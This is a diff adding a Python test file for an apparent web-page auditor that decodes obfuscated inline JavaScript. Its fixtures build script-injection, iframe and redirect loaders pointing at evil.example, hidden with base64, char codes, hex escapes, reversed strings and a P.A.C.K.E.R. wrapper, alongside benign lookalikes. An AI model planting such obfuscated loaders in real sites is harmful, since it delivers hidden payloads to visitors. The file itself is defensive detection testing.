@@ -1,0 +1,112 @@
+"""Static decoding of obfuscated inline scripts: what each encoding hides, and what is
+not obfuscation at all."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from auditor.heuristics.interface import fingerprint
+from auditor.heuristics.obfuscation import MAX_DECODED, decode_script, unpack
+from auditor.model import RequestType
+
+LOADER = ("var s=document.createElement('script');s.src='https://evil.example/x.js';"
+          "document.body.appendChild(s);")
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def codes(text: str) -> str:
+    return ",".join(str(ord(c)) for c in text)
+
+
+def hexed(text: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+def packed(text: str) -> str:
+    """A minimal P.A.C.K.E.R. wrapper whose word table is the identity (base 10)."""
+    words = sorted(set(__import__("re").findall(r"\b\w+\b", text)))
+    index = {w: str(i) for i, w in enumerate(words)}
+    body = __import__("re").sub(r"\b\w+\b", lambda m: index[m.group(0)], text)
+    body = body.replace("'", "\\'")
+    return (f"eval(function(p,a,c,k,e,d){{}}('{body}',10,{len(words)},"
+            f"'{'|'.join(words)}'.split('|'),0,{{}}))")
+
+
+@pytest.mark.parametrize(
+    ("code", "url", "kind"),
+    [
+        (f"eval(atob('{b64(LOADER)}'))", "https://evil.example/x.js", RequestType.SCRIPT),
+        (f"var p='{b64(LOADER)}';eval(atob(p));", "https://evil.example/x.js", RequestType.SCRIPT),
+        (f"eval(String.fromCharCode({codes(LOADER)}))", "https://evil.example/x.js",
+         RequestType.SCRIPT),
+        (f"eval(String.fromCharCode.apply(null,[{codes(LOADER)}]))", "https://evil.example/x.js",
+         RequestType.SCRIPT),
+        (f"eval('{hexed(LOADER)}')", "https://evil.example/x.js", RequestType.SCRIPT),
+        ("document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fevil.example%2Fy.js"
+         "%22%3E%3C%2Fscript%3E'))", "https://evil.example/y.js", RequestType.SCRIPT),
+        ("var s=document.createElement('script');"
+         "s.src='sj.z/elpmaxe.live//:sptth'.split('').reverse().join('');",
+         "https://evil.example/z.js", RequestType.SCRIPT),
+        (packed(LOADER), "https://evil.example/x.js", RequestType.SCRIPT),
+        (f"var i=document.createElement('iframe');i.src=atob('{b64('https://evil.example/f')}');",
+         "https://evil.example/f", RequestType.SUBDOCUMENT),
+        (f"window.location.href=atob('{b64('https://spam.example/?r=1')}');",
+         "https://spam.example/?r=1", RequestType.DOCUMENT),
+        # two layers: base64 inside char codes
+        (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
+         "https://evil.example/x.js", RequestType.SCRIPT),
+    ],
+)
+def test_decoded_urls(code: str, url: str, kind: RequestType) -> None:
+    decoded = decode_script(code)
+    assert decoded.obfuscated
+    hidden = {u.url: u for u in decoded.urls}
+    assert url in hidden, decoded
+    assert hidden[url].loaded and hidden[url].type is kind
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # WordPress' emoji loader: String.fromCharCode on surrogate pairs, no sink
+        "!function(e,a,t){var n=String.fromCharCode;p.fillText(n.apply(this,[55356,56826]),0,0)}"
+        "(window,document,window._wpemojiSettings);",
+        "var g = Function('return this')();",  # core-js's globalThis polyfill
+        "var cfg = JSON.parse(atob(window.__CONFIG__ || 'e30='));",  # base64 config, no URL
+        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){"
+        "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
+        "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
+        "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');",
+        "document.write('<p>' + new Date().getFullYear() + '</p>');",
+        "var token = 'dGhpcyBpcyBub3QgYSB1cmwgYXQgYWxsIGJ1dCBhIGxvbmcgdG9rZW4=';",
+    ],
+)
+def test_not_obfuscation(code: str) -> None:
+    assert not decode_script(code).obfuscated
+
+
+def test_unpack_round_trip() -> None:
+    assert unpack(packed(LOADER)) == LOADER
+
+
+def test_decoding_is_bounded() -> None:
+    big = "A" * (MAX_DECODED * 2)
+    code = f"eval(atob('{b64(big)}'))"
+    decoded = decode_script(code)
+    assert sum(len(p) for p in decoded.payloads) <= MAX_DECODED
+
+
+@given(st.integers(min_value=0, max_value=500))
+def test_fingerprint_ignores_line_shifts(shift: int) -> None:
+    """A finding's id hashes its kind and evidence, never where it sits."""
+    assert fingerprint("obfuscated-script", "https://evil.example/x.js") == fingerprint(
+        "obfuscated-script", "https://evil.example/x.js")
+    code = "\n" * shift + f"eval(atob('{b64(LOADER)}'))"
+    assert decode_script(code).urls == decode_script(f"eval(atob('{b64(LOADER)}'))").urls
